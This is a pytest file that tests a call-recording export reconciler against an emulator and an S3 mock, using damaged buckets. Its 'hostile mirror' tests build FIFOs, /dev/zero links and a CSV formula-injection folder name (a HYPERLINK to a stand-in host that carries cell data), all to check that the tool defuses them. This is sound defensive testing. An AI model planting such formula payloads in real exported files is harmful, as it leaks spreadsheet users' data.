"""`genesys-tui export reconcile` against the emulator over real HTTP, on a bucket an export really
wrote (a directory, and moto's S3 server), then damaged in every way a bucket can be: each
recording is classified, the manifest says so line by line, and the exit code says whether
anything owed is not there."""

from __future__ import annotations

import csv
import json
import shutil
import time
from collections import Counter
from datetime import timedelta
from pathlib import Path

import pytest

from genesys_tui.cli.main import main
from genesys_tui.emulator import EmulatorServer
from tests.conftest import ANCHOR, small_org

# Old enough that some of its calls are archived (the emulator archives past 60% of its days).
SPAN = f"{(ANCHOR - timedelta(days=9)).date()}/{(ANCHOR - timedelta(days=6)).date()}"


def point_at(srv, monkeypatch, config_home: str) -> None:
    """The CLI's environment and profile for `srv`."""
    monkeypatch.setenv("GENESYS_CLIENT_ID", srv.emulator.s.client_id)
    monkeypatch.setenv("GENESYS_CLIENT_SECRET", srv.emulator.s.client_secret)
    cfg = Path(config_home) / "genesys-tui.toml"
    cfg.write_text(f'[profiles.default]\nbase_url = "{srv.base_url}"\n')
    monkeypatch.setenv("GENESYS_TUI_CONFIG", str(cfg))


def exported(target: str, monkeypatch, isolated_home):
    """An emulator whose export of SPAN has finished into `target` (stopped again by the caller;
    here too when the export itself fails)."""
    srv = EmulatorServer(
        small_org(
            conversations=140,
            duration_scale=0.05,
            export_target=target,
            job_seconds=0.3,
            archive_rate=0.4,
        )
    )
    srv.__enter__()
    try:
        point_at(srv, monkeypatch, isolated_home["XDG_CONFIG_HOME"])
        assert main(["export", "start", "--interval", SPAN, "--yes", "--poll", "0.1", "-q"]) == 0
        deadline = time.monotonic() + 90
        while any(j["state"] in ("PENDING", "PROCESSING") for j in _docs(srv)):
            assert time.monotonic() < deadline, "the export did not finish"
            time.sleep(0.1)
    except BaseException:
        srv.__exit__(None, None, None)
        raise
    return srv


@pytest.fixture(scope="module")
def dir_export(tmp_path_factory):
    """One export of SPAN into a directory, shared by this module's tests (an export takes
    seconds); a test that damages the bucket damages its own copy (`bucket_copy`)."""
    home = tmp_path_factory.mktemp("export-home")
    with pytest.MonkeyPatch.context() as mp:
        dirs = {}
        for var in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME", "XDG_STATE_HOME"):
            (home / var).mkdir()
            mp.setenv(var, str(home / var))
            dirs[var] = str(home / var)
        srv = exported(f"dir:{home / 'bucket'}", mp, dirs)
    try:
        yield srv, home / "bucket"
    finally:
        srv.__exit__(None, None, None)


@pytest.fixture
def shared(dir_export, monkeypatch, isolated_home):
    """The shared export's emulator, the CLI pointed at it from this test's own home."""
    srv, bucket = dir_export
    point_at(srv, monkeypatch, isolated_home["XDG_CONFIG_HOME"])
    return srv, bucket


def bucket_copy(bucket: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "bucket"
    shutil.copytree(bucket, copy)
    return copy


def _docs(srv):
    from genesys_tui.emulator.api_recording_jobs import _job_doc

    return [_job_doc(srv.emulator, j) for j in srv.emulator.jobs.values()]


def reconcile(*where: str, manifest: Path, extra: tuple[str, ...] = ()) -> int:
    """`genesys-tui export reconcile` of SPAN against `where` (--dir PATH or --bucket ...)."""
    return main(
        ["export", "reconcile", "--interval", SPAN, *where, *extra, "--manifest", str(manifest)]
    )


def rows(base: Path) -> list[dict]:
    with open(base.with_suffix(".csv"), newline="") as f:
        by_csv = list(csv.DictReader(f))
    by_json = [json.loads(x) for x in base.with_suffix(".jsonl").read_text().splitlines()]
    assert [r["recording_id"] for r in by_csv] == [r["recording_id"] for r in by_json]
    return by_json


def test_reconcile_a_directory_with_every_status(tmp_path, shared, capsys):
    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    org = srv.emulator.org
    (job,) = _docs(srv)
    manifest = tmp_path / "m"
    assert reconcile("--dir", str(bucket), manifest=manifest) in (0, 1)
    first = rows(manifest)
    counts = Counter(r["status"] for r in first)
    assert counts["exported"] == job["totalProcessedRecordings"] > 3
    assert counts["failed"] == job["totalFailedRecordings"]
    from genesys_tui.core.intervals import parse_interval
    from genesys_tui.emulator.exports import orphan_docs

    lo, hi = (f"{t:%Y-%m-%dT%H:%M:%S}" for t in parse_interval(SPAN))
    orphans = {d["id"] for d in orphan_docs(srv.emulator) if lo <= d["createdTime"][:19] < hi}
    assert orphans and {r["recording_id"] for r in first if r["status"] == "orphaned"} == orphans
    # now damage it
    audio = sorted(bucket.rglob("*.opus"))
    convs = sorted({p.parent for p in audio})
    gone = convs[0]  # a whole conversation deleted: missing (or archived, if it is)
    gone_ids = {p.stem for p in gone.glob("*.opus")}
    shutil.rmtree(gone)
    keep = [p for p in audio if p.parent != gone]
    keep[0].with_name(keep[0].name + "_metadata.json").unlink()  # incomplete
    keep[1].write_bytes(keep[1].read_bytes()[: keep[1].stat().st_size // 2])  # corrupt
    stray = bucket / org.id / "year=2026" / "month=05" / keep[2].parts[-4] / "hour=01"
    stray = stray / "conversation_id=00000000-0000-4000-8000-000000000000"
    stray.mkdir(parents=True)
    (stray / "x.opus").write_bytes(b"OggS")  # unexpected
    capsys.readouterr()
    code = reconcile("--dir", str(bucket), manifest=manifest, extra=("--verify", "all"))
    assert code == 1
    out = capsys.readouterr().out
    after = {r["recording_id"] or r["conversation_id"]: r for r in rows(manifest)}
    assert all(after[r]["status"] in ("missing", "archived") for r in gone_ids)
    assert after[keep[0].stem]["status"] == "incomplete"
    assert after[keep[1].stem]["status"] == "corrupt"
    assert after["x"]["status"] == "unexpected"
    good = [r for r in after.values() if r["status"] == "exported"]
    assert good and all(r["duration_ms"] and r["metadata_hash"] for r in good)
    assert "missing" in out or "archived" in out
    assert f"{len(good)} exported" in out


def test_reconcile_an_archived_conversation_absent_from_the_bucket(tmp_path, shared, capsys):
    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    org = srv.emulator.org
    archived = [org.ids[i] for i in range(len(org.ids)) if org.archived[i]]
    folders = [p for p in bucket.rglob("conversation_id=*") if p.name.split("=")[1] in archived]
    assert folders, "an archived call exported in the span"
    shutil.rmtree(folders[0])
    manifest = tmp_path / "m"
    assert reconcile("--dir", str(bucket), manifest=manifest) == 1
    cid = folders[0].name.split("=")[1]
    assert {r["status"] for r in rows(manifest) if r["conversation_id"] == cid} == {"archived"}


def test_reconcile_an_s3_bucket_all_there(tmp_path, monkeypatch, isolated_home, s3, capsys):
    client, bucket, endpoint = s3
    srv = exported(f"s3:{endpoint}/{bucket}", monkeypatch, isolated_home)
    try:
        (job,) = _docs(srv)
        manifest = tmp_path / "m"
        code = reconcile(
            "--bucket",
            f"s3://{bucket}",
            manifest=manifest,
            extra=("--endpoint-url", endpoint, "--verify", "sample"),
        )
        statuses = Counter(r["status"] for r in rows(manifest))
        assert statuses["exported"] == job["totalProcessedRecordings"]
        assert statuses["failed"] == job["totalFailedRecordings"]
        assert code == (1 if job["totalFailedRecordings"] else 0)
        assert all(r["metadata_hash"] for r in rows(manifest) if r["status"] == "exported")
    finally:
        srv.__exit__(None, None, None)


def test_an_async_details_job_owes_what_the_query_owes(tmp_path, shared, monkeypatch, capsys):
    """--source jobs reads the owed conversations from an async details job (cursor-paged) and
    reaches the same manifest as the synchronous query; auto takes a job once the query counts
    more than it will page (the cap lowered here so a small org passes it)."""
    srv, bucket = shared
    manifests = {}
    for source in ("query", "jobs"):
        before = srv.emulator.stats["analytics.jobs.create"]
        base = tmp_path / source
        reconcile("--dir", str(bucket), manifest=base, extra=("--source", source))
        made = srv.emulator.stats["analytics.jobs.create"] - before
        assert made == (1 if source == "jobs" else 0)
        manifests[source] = sorted(
            (r["conversation_id"], r["recording_id"], r["status"]) for r in rows(base)
        )
    assert manifests["query"] and manifests["jobs"] == manifests["query"]
    assert "analytics details job" in capsys.readouterr().out
    import genesys_tui.flows.export.service as service

    monkeypatch.setattr(service, "MAX_RESULTS", 5)
    before = srv.emulator.stats["analytics.jobs.create"]
    reconcile("--dir", str(bucket), manifest=tmp_path / "auto")
    assert srv.emulator.stats["analytics.jobs.create"] == before + 1
    assert (
        sorted(
            (r["conversation_id"], r["recording_id"], r["status"]) for r in rows(tmp_path / "auto")
        )
        == manifests["query"]
    )


# --- a hostile mirror (issue 26: FIFOs, /dev/zero, links, formulas, huge sidecars, leftovers) ---


def _objects(bucket: Path, suffix: str) -> list[Path]:
    return sorted(p for p in bucket.rglob(f"*{suffix}") if p.is_file() and not p.is_symlink())


def test_fifos_device_links_and_dangling_links_are_rows_not_hangs(tmp_path, shared):
    import os

    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    metas = _objects(bucket, "_metadata.json")
    fifo, zero, dangling = metas[0], metas[1], _objects(bucket, ".opus")[2]
    fifo.unlink()
    os.mkfifo(fifo)  # a reader that opens it blocks until a writer comes: never
    zero.unlink()
    zero.symlink_to("/dev/zero")  # endless
    dangling.unlink()
    dangling.symlink_to(tmp_path / "nowhere.opus")
    manifest = tmp_path / "m"
    assert reconcile("--dir", str(bucket), manifest=manifest) == 1  # returns: nothing hangs
    by_key = {r["key"]: r for r in rows(manifest)}
    rel = lambda p: p.relative_to(bucket).as_posix()  # noqa: E731
    audio_of = lambda m: rel(m).removesuffix("_metadata.json")  # noqa: E731
    fifo_row, zero_row = by_key[audio_of(fifo)], by_key[audio_of(zero)]
    assert fifo_row["status"] == "corrupt" and "not a regular file" in fifo_row["detail"]
    assert zero_row["status"] == "corrupt" and "a link (to /dev/zero)" in zero_row["detail"]
    link_row = by_key[rel(dangling)]
    assert link_row["status"] == "corrupt" and "a link" in link_row["detail"]
    assert int(link_row["size"]) == 0  # never the link's own length


def test_a_linked_folder_is_reported_and_not_walked_out_of_the_mirror(tmp_path, shared):
    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    outside = tmp_path / "outside"
    month = next(p for p in bucket.rglob("month=*") if p.is_dir())
    shutil.move(month, outside)  # the month's folder now lives outside, linked back in
    month.symlink_to(outside, target_is_directory=True)
    manifest = tmp_path / "m"
    assert reconcile("--dir", str(bucket), manifest=manifest) == 1
    found = rows(manifest)
    walked = [r for r in found if r["status"] in ("exported", "incomplete")]
    assert not walked  # nothing inside the link was taken for the export
    linked = [r for r in found if "a link" in r["detail"]]
    assert linked and all(r["status"] == "unexpected" for r in linked)
    assert any(r["status"] == "missing" for r in found)  # what it held is owed and not there


def test_formula_folders_and_keys_outside_the_layout_are_unexpected_and_defused(tmp_path, shared):
    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    hour = next(p for p in bucket.rglob("hour=*") if p.is_dir())
    evil = hour / 'conversation_id==HYPERLINK("x.example?"&A1,"click")'
    evil.mkdir()
    (evil / "r.opus").write_bytes(b"OggS")
    (hour / "stray.opus").write_bytes(b"OggS")  # not in a conversation's folder
    manifest = tmp_path / "m"
    assert reconcile("--dir", str(bucket), manifest=manifest) in (0, 1)
    strangers = [
        r for r in rows(manifest) if r["status"] == "unexpected" and not r["conversation_id"]
    ]
    keys = {r["key"] for r in strangers}
    assert any("HYPERLINK" in k for k in keys) and any(k.endswith("/stray.opus") for k in keys)
    with open(manifest.with_suffix(".csv"), newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    formula = [c for c in cells if "HYPERLINK" in c]
    assert formula and all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    jsonl = manifest.with_suffix(".jsonl").read_text()
    assert "conversation_id==HYPERLINK" in jsonl  # the JSON lines stay exact


@pytest.mark.timeout(240)
def test_a_huge_sidecar_is_a_row_under_a_memory_cap(tmp_path, shared):
    """A 2.6 GB sparse sidecar (no disk used) with --verify, in a process capped at 1 GB: one
    corrupt row, and the manifest written."""
    import os
    import subprocess
    import sys

    srv, bucket = shared
    bucket = bucket_copy(bucket, tmp_path)
    meta = _objects(bucket, "_metadata.json")[0]
    with open(meta, "r+b") as f:
        f.truncate(2_600_000_000)
    manifest = tmp_path / "m"
    cap = "import resource,sys;resource.setrlimit(resource.RLIMIT_AS,(1<<30,1<<30));"
    run = f"{cap}from genesys_tui.cli.main import main;sys.exit(main(sys.argv[1:]))"
    args = ["export", "reconcile", "--interval", SPAN, "--dir", str(bucket), "--verify", "all"]
    r = subprocess.run(
        [sys.executable, "-c", run, *args, "--manifest", str(manifest)],
        env=os.environ.copy(),
        capture_output=True,
        text=True,
        timeout=200,
    )
    assert r.returncode in (0, 1), r.stderr[-2000:]
    row = next(
        x
        for x in rows(manifest)
        if x["key"] == meta.relative_to(bucket).as_posix().removesuffix("_metadata.json")
    )
    assert row["status"] == "corrupt" and "2,600,000,000 bytes" in row["detail"]


def test_a_killed_runs_manifest_temporaries_are_swept(tmp_path, shared):
    import os

    srv, bucket = shared
    manifest = tmp_path / "m"
    left = [tmp_path / "m.csv.0123abcd.part", tmp_path / "m.jsonl.89abcdef.part"]
    other = tmp_path / "notes.txt.0123abcd.part"  # another file's: not this run's to sweep
    old = time.time() - 3600
    for p in (*left, other):
        p.write_text("half")
        os.utime(p, (old, old))
    assert reconcile("--dir", str(bucket), manifest=manifest) in (0, 1)
    assert not any(p.exists() for p in left) and other.exists()
